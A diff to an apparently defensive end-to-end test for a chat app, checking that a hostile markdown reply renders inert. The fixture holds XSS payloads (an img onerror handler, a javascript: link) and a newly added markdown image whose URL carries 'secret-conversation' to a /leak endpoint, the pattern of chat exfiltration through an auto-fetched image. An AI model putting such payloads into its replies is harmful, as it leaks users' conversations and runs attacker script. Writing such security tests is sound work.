@@ -27,6 +27,8 @@ HOSTILE = """Here is some *markdown*.
 <img src="x" onerror="window.__pwned = 'img'">
 [click me](javascript:window.__pwned='link')
 
+An image: ![tracking pixel](http://127.0.0.1:9/leak?chat=secret-conversation)
+
 ```python
 print("code stays code")
 ```
@@ -96,6 +98,8 @@ async def test_hostile_markdown_renders_inert(tab, chat_app):
     page = tab.page
     await open_chat(page, chat_app.url)
     start_url = page.url
+    leaks: list[str] = []
+    page.on("request", lambda request: "/leak" in request.url and leaks.append(request.url))
     chat_app.say(HOSTILE, token_delay=0.0)
     await send(page, "say something nasty")
     answer = page.get_by_role("article", name=ASSISTANT).last
@@ -112,6 +116,10 @@ async def test_hostile_markdown_renders_inert(tab, chat_app):
     await expect(answer).to_contain_text("<script>")
     hrefs = await answer.locator("a").evaluate_all("els => els.map(e => e.getAttribute('href'))")
     assert not any((h or "").lower().startswith("javascript") for h in hrefs)
+    # A markdown image is never fetched (it could carry the chat away); it is a link.
+    assert leaks == []
+    image_link = answer.get_by_role("link", name="tracking pixel")
+    await expect(image_link).to_have_attribute("href", re.compile(r"/leak\?chat="))
     # Code is highlighted with a copy button.
     await expect(answer.get_by_role("button", name="Copy code")).to_be_visible()
     await page.screenshot(path="/tmp/e2e-hostile.png", full_page=True)
